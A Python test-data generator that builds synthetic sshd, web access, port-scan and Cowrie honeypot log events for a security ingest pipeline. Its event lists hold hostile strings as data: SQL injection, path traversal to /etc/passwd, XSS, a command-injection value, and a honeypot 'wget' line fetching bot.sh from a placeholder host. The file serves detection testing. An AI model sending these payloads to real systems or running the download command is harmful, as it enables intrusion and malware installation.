"""Realistic test events for POST ingest/synthetic (admin only, off in production unless enabled)."""

from __future__ import annotations

import random
from datetime import UTC, datetime, timedelta


def _syslog(stamp: datetime, message: str) -> str:
    return f"{stamp:%b} {stamp.day:2d} {stamp:%H:%M:%S} synthetic-host sshd[{random.randint(1000, 65000)}]: {message}"  # noqa: S311


def _access(stamp: datetime, ip: str, request: str, status: int, agent: str) -> str:
    return f'{ip} - - [{stamp:%d/%b/%Y:%H:%M:%S +0000}] "{request}" {status} {random.randint(200, 9000)} "-" "{agent}"'  # noqa: S311


def generate(*, scenario: str, count: int, source_ip: str | None = None) -> list[dict]:
    """Items for ingest/multi (each names its source type)."""
    rng = random.Random()  # noqa: S311  (test data, not secrets)
    ip = source_ip or f"198.51.100.{rng.randint(2, 254)}"
    now = datetime.now(UTC)
    items: list[dict] = []
    users = ["root", "admin", "ubuntu", "test", "oracle", "postgres", "git", "pi"]
    for n in range(count):
        stamp = now - timedelta(seconds=count - n)
        if scenario == "ssh_brute_force":
            user = rng.choice(users)
            line = _syslog(
                stamp, f"Failed password for {user} from {ip} port {rng.randint(30000, 65000)} ssh2"
            )
            items.append({"source_type": "sshd", "line": line})
        elif scenario == "web_attack":
            request = rng.choice(
                [
                    "GET /index.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1",
                    "GET /../../../../etc/passwd HTTP/1.1",
                    "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1",
                    "GET /cgi-bin/ping?host=127.0.0.1;cat%20/etc/passwd HTTP/1.1",
                ]
            )
            items.append({"source_type": "web", "line": _access(stamp, ip, request, 200, "sqlmap/1.7.2")})
        elif scenario == "port_scan":
            event = {
                "timestamp": stamp.isoformat(),
                "src_ip": ip,
                "dst_ip": "192.0.2.10",
                "dst_port": 1 + n % 1024,
                "action": "connection",
                "outcome": "blocked",
            }
            items.append({"source_type": "json", "event": event})
        elif scenario == "honeypot_session":
            command = rng.choice(
                ["uname -a", "cat /proc/cpuinfo", "wget http://203.0.113.50/bot.sh", "history -c"]
            )
            event = {
                "eventid": "cowrie.command.input",
                "src_ip": ip,
                "src_port": 40000 + n,
                "dst_ip": "192.0.2.10",
                "dst_port": 2222,
                "session": f"synth{n:06d}",
                "protocol": "ssh",
                "input": command,
                "timestamp": stamp.isoformat(),
                "message": f"CMD: {command}",
                "sensor": "synthetic",
            }
            items.append({"source_type": "cowrie", "event": event})
        else:
            path = rng.choice(["/", "/about", "/products/42", "/static/app.css", "/login"])
            agent = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
            items.append(
                {"source_type": "web", "line": _access(stamp, ip, f"GET {path} HTTP/1.1", 200, agent)}
            )
    return items
